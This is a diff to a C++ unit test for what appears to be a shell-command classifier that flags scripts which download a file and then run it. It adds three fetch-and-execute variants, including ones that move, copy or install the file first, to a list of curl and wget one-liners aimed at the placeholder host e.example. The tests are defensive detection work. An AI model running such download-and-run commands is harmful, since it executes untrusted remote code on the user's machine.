@@ -116,7 +116,8 @@ TEST_CASE("RUN: where from, of what a lockfile names") {
 TEST_CASE("RUN: what is fetched to a file, and run") {
     for (const char* const script : {"curl -o f https://e.example/x && sh f", "curl -fsSLo /tmp/i.sh https://e.example/x; bash -e /tmp/i.sh -b", "wget https://e.example/x && sh x", "wget -q -O i.sh https://e.example/x && chmod +x i.sh && ./i.sh",
                                      "curl -O https://e.example/x && chmod +x x && ./x", "curl https://e.example/x > f; . ./f", "curl https://e.example/x | tee f; python3 f", "curl --output f https://e.example/x; sh < f", "f=$(mktemp); curl -o $f https://e.example/x; sh \"$f\"",
-                                     "(curl https://e.example/x) > f; sh f", "cd /tmp && curl -o i.sh https://e.example/x && sh /tmp/i.sh", "curl -o f https://e.example/x; cat f | sh", "curl https://e.example/x --output=f; sudo -E bash ./f"}) {
+                                     "(curl https://e.example/x) > f; sh f", "cd /tmp && curl -o i.sh https://e.example/x && sh /tmp/i.sh", "curl -o f https://e.example/x; cat f | sh", "curl https://e.example/x --output=f; sudo -E bash ./f",
+                                     "curl -o a https://e.example/x; mv a /opt/b; sh /opt/b", "curl -o /tmp/i.sh https://e.example/x; cp -p /tmp/i.sh /usr/bin && sh /usr/bin/i.sh", "curl -o a https://e.example/x; install -m 755 a b; ./b"}) {
         INFO(script);
         CHECK(names(script) == kPlace);
     }
